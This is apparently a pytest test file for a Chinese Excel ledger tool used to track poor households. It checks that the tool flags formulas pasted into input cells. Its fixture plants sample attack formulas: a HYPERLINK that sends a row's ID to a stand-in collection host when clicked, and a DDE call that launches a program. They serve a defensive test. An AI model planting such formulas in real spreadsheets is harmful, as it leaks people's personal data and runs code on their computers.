"""Formulas typed or pasted into the columns a clerk fills in (issue 18 point 5): check names each cell and says
what the formula would do — a link that sends the row's ID out when clicked, a call to another program (DDE) — in a
workbook saved by openpyxl and in its copy saved by LibreOffice; fill and review leave them as they are."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest

from conftest import AS_OF, household, person
from hx_excel.cli import main
from hx_excel.files.save import save_workbook
from hx_excel.ledger.schema import FIRST_DATA_ROW, SHEET, column_index
from hx_excel.ledger.template import PARAMS, build_workbook
from hx_excel.ledger.writer import RowWriter
from hx_excel.office.libreoffice import find_soffice, recalculate

LINK = '=HYPERLINK("http://收集.example/?id="&G4,"点我")'
DDE = "=cmd|' /C calc'!A0"
SUM = "=3000+4500"
NAME, NOTE, SCHOOL = column_index("name"), column_index("note"), column_index("rigid_spending_school")


@pytest.fixture
def ledger(tmp_path, policy) -> Path:
    wb = build_workbook(policy, township="青岩镇", villages=("龙井村",), as_of=AS_OF, rows=20)
    # R1: 10,000 yuan for 2 persons = 5,000 a head, under 2022's 6,700 → red
    RowWriter(wb[SHEET]).write([household([person("罗大山"), person("罗小花", "之女")], household_id="QY-001",
                                          village="龙井村", annual_net_income=10_000)])
    ws = wb[SHEET]
    ws.cell(FIRST_DATA_ROW, NAME).value = LINK
    ws.cell(FIRST_DATA_ROW + 1, NOTE).value = DDE
    ws.cell(FIRST_DATA_ROW, SCHOOL).value = SUM
    params = wb[PARAMS]
    reporter = next(r for r in range(1, 40) if params.cell(r, 1).value == "填报人")
    params.cell(reporter, 2).value = '=HYPERLINK("http://收集.example/","张三")'
    path = tmp_path / "青岩镇.xlsx"
    save_workbook(wb, path)
    return path


def expected(name: str) -> list[str]:
    return [
        f"{name}  台账    {FIRST_DATA_ROW}   姓名",
        f"“姓名”格是公式 {LINK}，不是填写的内容：点击它会打开链接 http://收集.example/?id=，可能把本行的信息（如身份证号）"
        "发到外部。请删除公式，直接填写姓名",
        "“备注”格是公式 =cmd|' /C calc'!A0，会调用电脑上的其他程序（DDE），是恶意表格常用的手法：请删除该格，直接填写备注",
        "“就学刚性支出（元）”格是公式 =3000+4500，不是直接填写的内容：按公式的结果读取；请确认结果无误后改为直接填写数值或文字",
    ]


def test_check_names_each_formula_in_an_input_cell_and_what_it_does(ledger, capsys):
    assert main(["check", str(ledger)]) == 1
    out = capsys.readouterr().out
    for line in expected(ledger.name):
        assert line in out, line
    lines = out.splitlines()
    link = next(l for l in lines if "HYPERLINK" in l)
    dde = next(l for l in lines if "DDE" in l)
    school = next(l for l in lines if "=3000+4500" in l)
    assert "错误" in link and f"台账    {FIRST_DATA_ROW + 1}" in dde and "错误" in dde and "提示" in school
    assert not any("姓名" in l and "未填" in l for l in lines)      # said as a formula, not as a blank name
    reporter = next(l for l in lines if "“填报人”格是公式" in l)      # 参数's text cells too
    assert reporter.startswith(f"{ledger.name}  参数") and "错误" in reporter and "点击它会打开链接 http://收集.example/" in reporter


def test_fill_and_review_leave_the_formulas_as_typed(ledger):
    assert main(["fill", str(ledger)]) in (0, 1)
    assert main(["review", str(ledger), "--month", "2022-07"]) in (0, 1)
    ws = openpyxl.load_workbook(ledger)[SHEET]
    assert ws.cell(FIRST_DATA_ROW, NAME).value == LINK
    assert ws.cell(FIRST_DATA_ROW + 1, NOTE).value == DDE
    assert ws.cell(FIRST_DATA_ROW, SCHOOL).value == SUM


@pytest.mark.libreoffice
def test_a_copy_saved_by_libreoffice_is_checked_the_same(ledger, tmp_path, capsys):
    if not find_soffice():
        pytest.skip("LibreOffice not installed")
    saved = recalculate([ledger], tmp_path / "lo")[0]
    assert main(["check", str(saved)]) == 1
    out = capsys.readouterr().out
    assert "“姓名”格是公式 =HYPERLINK(" in out and "点击它会打开链接 http://收集.example/?id=" in out
    assert "会调用电脑上的其他程序（DDE）" in out
    assert "“就学刚性支出（元）”格是公式 =3000+4500" in out
    assert "“填报人”格是公式 =HYPERLINK(" in out


def test_in_a_ledger_whose_columns_moved_the_formulas_are_found_by_header(ledger, policy):
    """A column inserted before 序号: every column one to the right. The formulas typed in input cells and a computed
    formula cleared are still named by their own columns (read_book looks where the template puts the columns while
    calamine parses, and looks again when the header says otherwise)."""
    from hx_excel.operations.check import check_files

    wb = openpyxl.load_workbook(ledger)
    ws = wb[SHEET]
    ws.insert_cols(1)
    ws.cell(FIRST_DATA_ROW, column_index("grade") + 1).value = None          # 预警分级's formula cleared on the head row
    wb.save(ledger)
    found = check_files([ledger], policy, AS_OF).findings
    typed = sorted((f.row, f.column) for f in found if "格是公式" in f.message and f.sheet == SHEET)
    assert typed == [(FIRST_DATA_ROW, "姓名"), (FIRST_DATA_ROW, "就学刚性支出（元）"), (FIRST_DATA_ROW + 1, "备注")]
    gone = [f for f in found if "公式被删除" in f.message]
    assert [(f.row, f.column) for f in gone] == [(FIRST_DATA_ROW, "预警分级")]
